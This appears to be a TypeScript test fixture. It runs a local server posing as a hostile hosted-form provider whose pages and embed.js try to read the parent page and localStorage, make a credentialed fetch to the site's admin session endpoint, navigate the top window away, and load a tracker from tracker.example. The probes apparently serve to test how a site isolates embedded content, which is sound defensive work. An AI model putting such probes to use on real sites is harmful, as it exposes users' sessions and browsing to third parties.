import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'

export interface FormProvider {
  /** Another origin than that of the site, which is at localhost. */
  origin: string
  /** What browsers have requested, each with its Referer. */
  requests: { path: string; referer: string | undefined }[]
  /** What the form, or the script beside it, reaches the next time that it is loaded: results of its attempts, by name. */
  nextReport(part: 'form' | 'script'): Promise<unknown>
  close(): Promise<void>
}

/** A provider of hosted forms that does more than to show one: it tries to reach the page around it and other hosts. */
export async function startFormProvider(): Promise<FormProvider> {
  const requests: FormProvider['requests'] = []
  const reports = {
    '/report/form': Promise.withResolvers<unknown>(),
    '/report/script': Promise.withResolvers<unknown>(),
  }
  const server = createServer(async (request, response) => {
    const address = String(request.url)
    const [path = ''] = address.split('?')
    if (path === '/report/form' || path === '/report/script') {
      reports[path].resolve(JSON.parse(await text(request)))
      response.end()
      return
    }
    requests.push({ path: address, referer: request.headers.referer })
    const { type = 'text/html', body = '' } = files[path] ?? {}
    response.writeHead(body === '' ? 404 : 200, { 'content-type': type }).end(body)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, // It listens on a port.
    requests,
    nextReport: (part) => {
      const report = Promise.withResolvers<unknown>()
      reports[`/report/${part}`] = report
      return report.promise
    },
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

/** A page that reports by a request: looking into its frame would give it the user activation with which it may navigate. */
const attempts = `async function report(part, own, site) {
  const results = {}
  const attempt = async (name, action) => {
    try { results[name] = String(await action()) } catch { results[name] = 'refused' }
  }
  await attempt('origin', () => self.origin)
  await attempt('the page around it', () => parent.document.title)
  await attempt('the address of the page around it', () => parent.location.href)
  await attempt('storage', () => localStorage.length)
  await attempt('a session of staff', async () => (await fetch(site + '/api/admin/session', { credentials: 'include' })).status)
  await attempt('the whole window', () => { top.location = own + '/elsewhere'; return 'navigated' })
  await fetch(own + '/report/' + part, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) })
}`

const files: Record<string, { type?: string; body: string }> = {
  '/form': {
    body: `<!doctype html><title>A form</title>
<form action="/thanks"><label>Your name <input name="name"></label><button>Send</button></form>
<iframe src="/inner" title="Inner"></iframe><img src="/pixel.svg" alt="">
<script>${attempts}
report('form', new URL(location.href).origin, new URLSearchParams(location.search).get('site'))</script>`,
  },
  '/thanks': { body: '<!doctype html><title>Thanks</title><p>Thank you. We will call you.</p>' },
  '/inner': { body: '<!doctype html><title>Inner</title><p>Inner</p>' },
  '/pixel.svg': { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
  '/embed.js': {
    type: 'text/javascript',
    body: `${attempts}
const { origin, searchParams } = new URL(document.currentScript.src)
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties))
add('img', { src: origin + '/pixel.svg?by=script', alt: '' })
add('script', { src: 'https://tracker.example/track.js' })
add('img', { src: 'https://tracker.example/pixel.gif', alt: '' })
report('script', origin, searchParams.get('site'))`,
  },
}
